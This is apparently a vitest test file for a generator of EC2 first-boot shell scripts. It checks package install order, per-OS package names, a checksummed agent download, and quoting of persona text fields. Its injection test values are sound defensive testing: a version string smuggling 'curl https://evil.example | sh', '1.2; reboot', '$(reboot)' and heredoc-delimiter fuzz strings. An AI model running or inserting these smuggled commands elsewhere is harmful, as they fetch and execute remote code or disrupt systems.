/**
 * The first-boot script (EC2 user data, and the orchestrator's Run Command script, which is the same
 * text): package names that exist per operating system, agents before packages, one package's
 * failure reported without stopping the rest, the agent from the stack's own bucket, and every
 * value quoted so no persona text changes the script's shell structure.
 */
import { spawnSync } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parsePersona } from "../../src/pdl/parse.js";
import { PlanError, UnknownPackageError, UnsafeShellValueError } from "../../src/plan/errors.js";
import { planPackages } from "../../src/plan/packages.js";
import { type PersonaPlan, planPersona } from "../../src/plan/plan.js";
import {
  type AgentOptions,
  OPERATING_SYSTEMS,
  renderUserData,
  USER_DATA_LIMIT_BYTES,
  unavailableSoftware,
} from "../../src/plan/user-data.js";
import { contentDigest } from "../../src/repository/digest.js";
import { PersonaRepository } from "../../src/repository/repository.js";
import { ShellSyntaxError, shellStructure } from "../support/shell-tokens.js";

const AGENT: AgentOptions = {
  source: {
    bucket: "web-agent-0a1b2c",
    key: "agent/personas-agent-0123456789abcdef.cjs",
    // fixture-guard: the uploaded agent object's checksum, not a persona digest
    sha256: "ab".repeat(32),
  },
  probeTargets: [{ name: "local-http", kind: "http", url: "http://127.0.0.1/" }],
  logFiles: [{ name: "nginx", path: "/var/log/nginx/access.log", errorPattern: '" 5\\d\\d ' }],
};

/** A persona using both agents (memory: CloudWatch agent; latency and error rate: personas agent). */
const FULL_PERSONA = parsePersona(
  [
    "Name: Full",
    'Version: "1.0.0"',
    "SoftwareStack:",
    "  - Nginx 1.24",
    "  - Redis",
    "  - PostgreSQL",
    "  - Prometheus",
    "TelemetryTriggers:",
    "  - Condition: Memory > 90% for 10 minutes",
    "    Action: Scale up to 16 cores",
    "  - Condition: Network Latency > 200ms",
    "    Action: Scale up to 16 cores",
    "  - Condition: Error Rate > 5% for 5 minutes",
    "    Action: Notify ops-team",
  ].join("\n"),
  { file: "full.yaml" },
);
const FULL = planPersona({
  persona: FULL_PERSONA,
  ref: { name: "Full", version: "1.0.0", digest: contentDigest(FULL_PERSONA) },
});

describe("renderUserData", () => {
  it("installs the agents before the SoftwareStack, so a failed package leaves telemetry running", () => {
    const script = renderUserData(FULL, { os: "amazon-linux", agent: AGENT });
    const stack = script.indexOf("# SoftwareStack");
    expect(script.indexOf("amazon-cloudwatch-agent-ctl")).toBeLessThan(stack);
    expect(script.indexOf("systemctl enable --now personas-agent.service")).toBeLessThan(stack);
  });

  it("installs each package on its own, reports a failure and goes on (Amazon Linux 2023 names)", () => {
    const script = renderUserData(FULL, { os: "amazon-linux", agent: AGENT });
    expect(script).toContain(
      "{ dnf install -y 'nginx-1.24*' && systemctl enable --now 'nginx'; } || personas_failed 'Nginx'\n" +
        "{ dnf install -y 'redis6' && systemctl enable --now 'redis6'; } || personas_failed 'Redis'\n" +
        "{ dnf install -y 'postgresql15-server' && postgresql-setup --initdb && systemctl enable --now 'postgresql'; } || personas_failed 'PostgreSQL'\n" +
        "personas_failed 'Prometheus (not packaged on amazon-linux)'\n",
    );
  });

  it("uses the Debian and Ubuntu package and unit names", () => {
    const script = renderUserData(FULL, { os: "ubuntu", agent: AGENT });
    expect(script).toContain(
      "{ apt-get install -y --no-install-recommends 'redis-server' && systemctl enable --now 'redis-server'; } || personas_failed 'Redis'\n" +
        "{ apt-get install -y --no-install-recommends 'postgresql' && systemctl enable --now 'postgresql'; } || personas_failed 'PostgreSQL'\n" +
        "{ apt-get install -y --no-install-recommends 'prometheus' && systemctl enable --now 'prometheus'; } || personas_failed 'Prometheus'\n",
    );
  });

  it("publishes the failure count as PackageInstallFailures and logs it", () => {
    const script = renderUserData(FULL, { os: "debian", agent: AGENT });
    expect(script).toContain('personas_log "SoftwareStack done: ${PERSONAS_FAILED} package(s) failed"\n');
    expect(script).toContain(
      'personas_aws monitoring "https://monitoring.${REGION}.amazonaws.com/" -d "Action=PutMetricData&Version=2010-08-01&Namespace=Personas%2FSoftware&MetricData.member.1.MetricName=PackageInstallFailures&MetricData.member.1.Unit=Count&MetricData.member.1.Value=${PERSONAS_FAILED}&MetricData.member.1.Dimensions.member.1.Name=InstanceId&MetricData.member.1.Dimensions.member.1.Value=${INSTANCE_ID}" >/dev/null || personas_log "could not publish PackageInstallFailures"\n',
    );
  });

  it("fetches the agent from the stack's bucket with the instance role and checks its SHA-256 before running it", () => {
    const script = renderUserData(FULL, { os: "amazon-linux", agent: AGENT });
    expect(script).toContain(
      "personas_aws s3 'https://web-agent-0a1b2c.s3.'\"${REGION}\"'.amazonaws.com/agent/personas-agent-0123456789abcdef.cjs' -H 'x-amz-content-sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855' -o /tmp/personas-agent.cjs\n" +
        // fixture-guard: the agent object's checksum given above, not a persona digest
        `echo '${"ab".repeat(32)}  /tmp/personas-agent.cjs' | sha256sum -c -\n` +
        "install -d -m 0755 /opt/personas-agent\n" +
        "install -m 0644 /tmp/personas-agent.cjs /opt/personas-agent/personas-agent.cjs\n",
    );
    expect(script).not.toMatch(/registry\.npmjs\.org|npm install|\.tgz/);
  });

  it("refuses an agent source whose values would not be a plain URL and digest", () => {
    const act = () =>
      renderUserData(FULL, {
        os: "ubuntu",
        agent: { ...AGENT, source: { bucket: "Bad_Bucket", key: "a b", sha256: "xyz" } },
      });
    expect(act).toThrow(UnsafeShellValueError);
    expect(act).toThrow(
      "The personas agent source is invalid: bucket 'Bad_Bucket' (3 to 63 lower-case letters, digits, '-'); key 'a b' (letters, digits and / _ . -); sha256 'xyz' (64 lower-case hex digits).",
    );
  });

  it("quotes a hostile version so it stays one argument of the package manager (issue 13, finding 5)", () => {
    const hostile: PersonaPlan = {
      ...FULL,
      software: [{ ...FULL.software[0]!, version: "1.2; curl https://evil.example | sh" }],
    };
    const script = renderUserData(hostile, { os: "ubuntu", agent: AGENT });
    expect(script).toContain(
      "{ apt-get install -y --no-install-recommends 'nginx=1.2; curl https://evil.example | sh*' && systemctl enable --now 'nginx'; } || personas_failed 'Nginx'\n",
    );
  });

  it("keeps the largest embedded persona's user data within EC2's 16 KB on every operating system", () => {
    const repository = PersonaRepository.fromDirectory("personas");
    const sizes: number[] = [];
    for (const name of repository.names())
      for (const version of repository.versions(name)) {
        const chain = repository.resolve(`${name}@${version}`);
        const plan = planPersona({
          persona: chain.persona,
          ref: { name, version, digest: chain.digest.replace("sha256:", "") },
        });
        for (const os of OPERATING_SYSTEMS)
          sizes.push(Buffer.byteLength(renderUserData(plan, { os, agent: AGENT }), "utf8"));
      }
    expect(sizes.length).toBeGreaterThan(0);
    expect(Math.max(...sizes)).toBeLessThanOrEqual(USER_DATA_LIMIT_BYTES);
  });
});

describe("the package catalog", () => {
  it("refuses a name it does not know at plan time, naming the nearest entry", () => {
    const act = () => planPackages([{ name: "Ngnix", version: "latest" }], "Web 1.0.0");
    expect(act).toThrow(UnknownPackageError);
    expect(act).toThrow(
      "Persona Web 1.0.0: software 'Ngnix' is not in the package catalog; did you mean 'nginx'? known names: nginx, redis, prometheus, prometheus node exporter, postgresql, mariadb, haproxy, docker, node.js, python, fail2ban, varnish, memcached. Correct the name, or add the package to src/plan/packages.ts with its name on each system.",
    );
  });

  it("refuses a version that is not a package version, even when PDL was bypassed", () => {
    const act = () => planPackages([{ name: "nginx", version: "1.2; reboot" }], "Web 1.0.0");
    expect(act).toThrow(PlanError);
    expect(act).toThrow(
      "Persona Web 1.0.0: software 'nginx' has version '1.2; reboot', which is not a package version; write 'latest' or a version such as '1.24'.",
    );
  });

  it("names, at plan time, a package the operating system does not have and where it is packaged", () => {
    expect(unavailableSoftware(FULL, "amazon-linux")).toEqual([
      "Persona Full 1.0.0: software 'Prometheus' has no package on amazon-linux (it is packaged on ubuntu, debian); instances will report it as failed. Use one of those operating systems for this persona, or remove it from the SoftwareStack.",
    ]);
    expect(unavailableSoftware(FULL, "debian")).toEqual([]);
  });
});

/** Strings built from what breaks shell scripts: quotes, expansions, separators, newlines, heredoc delimiters. */
const hostileText = fc.oneof(
  fc.string({ maxLength: 24 }),
  fc
    .array(
      fc.constantFrom(
        "'",
        '"',
        "$",
        "`",
        ";",
        "|",
        "&",
        "\n",
        "\\",
        "(",
        ")",
        "{",
        "}",
        "<",
        ">",
        "#",
        "*",
        " ",
        "\t",
        "$(reboot)",
        "${IFS}",
        "'\\''",
        "\nPERSONAS_AGENT_CONFIG\n",
        "\nPERSONAS_CWAGENT_CONFIG\n",
        "\nPERSONAS_AGENT_UNIT\n",
        "a",
        "1",
        "é",
      ),
      { maxLength: 12 },
    )
    .map((parts) => parts.join("")),
);
const METACHARACTER = /['"$`;|&\n\\(){}<>#*\s]/;

/** The plan with a value in every text field that reaches the script (bypassing PDL validation). */
function withValues(plan: PersonaPlan, v: readonly string[]): { plan: PersonaPlan; agent: AgentOptions } {
  const at = (i: number) => v[i % v.length]!;
  return {
    plan: {
      ...plan,
      persona: { name: at(0), version: at(1), digest: at(2) },
      software: plan.software.map((pkg, i) => ({ ...pkg, name: at(3 + 2 * i), version: at(4 + 2 * i) })),
      alarms: plan.alarms.map((alarm, i) => ({ ...alarm, aws: { ...alarm.aws, namespace: at(11 + i) } })),
    },
    agent: {
      ...AGENT,
      probeTargets: [{ name: at(15), kind: "http", url: at(16) }],
      logFiles: [{ ...AGENT.logFiles![0]!, name: at(17), errorPattern: at(18) }],
    },
  };
}

const FIELDS = 19;

describe("user data shell structure (property, issue 13 finding 5)", () => {
  it("never changes with random strings in any persona text field: 10,000 cases, token comparison, a bash -n sample", () => {
    const reference = Object.fromEntries(
      OPERATING_SYSTEMS.map((os) => {
        const { plan, agent } = withValues(FULL, ["x"]);
        return [os, shellStructure(renderUserData(plan, { os, agent }))];
      }),
    );
    const sample: string[] = [];
    let cases = 0;
    let hostile = 0;
    let refused = 0;
    fc.assert(
      fc.property(
        fc.array(hostileText, { minLength: FIELDS, maxLength: FIELDS }),
        fc.constantFrom(...OPERATING_SYSTEMS),
        (values, os) => {
          cases++;
          if (values.some((v) => METACHARACTER.test(v))) hostile++;
          const { plan, agent } = withValues(FULL, values);
          let script: string;
          try {
            script = renderUserData(plan, { os, agent });
          } catch (error) {
            // A NUL byte cannot be quoted: refused with a typed error, never rendered.
            if (error instanceof UnsafeShellValueError && values.some((v) => v.includes("\0"))) {
              refused++;
              return;
            }
            throw error;
          }
          let structure: string[];
          try {
            structure = shellStructure(script);
          } catch (error) {
            if (error instanceof ShellSyntaxError) throw new Error(`${error.message} in:\n${script}`);
            throw error;
          }
          // One string comparison per case (fast); the full diff only when it fails.
          if (structure.join("\u0001") !== reference[os]!.join("\u0001"))
            expect(structure).toEqual(reference[os]);
          if (sample.length < 200 && cases % 50 === 0) sample.push(script);
        },
      ),
      { numRuns: 10_000 },
    );
    expect(cases).toBe(10_000);
    // Most cases carry shell metacharacters: an unquoted write would have changed the structure.
    expect(hostile / cases).toBeGreaterThan(0.9);
    expect(refused).toBeLessThan(cases / 10);
    // bash itself parses a sample, many scripts per invocation (each wrapped in a function).
    const dir = mkdtempSync(join(tmpdir(), "personas-user-data-"));
    try {
      const file = join(dir, "sample.sh");
      writeFileSync(file, sample.map((s, i) => `personas_case_${i}() {\n${s}\n}\n`).join(""));
      const result = spawnSync("bash", ["-n", file], { encoding: "utf8" });
      expect(result.stderr).toBe("");
      expect(result.status).toBe(0);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
    expect(sample.length).toBe(200);
  });
});
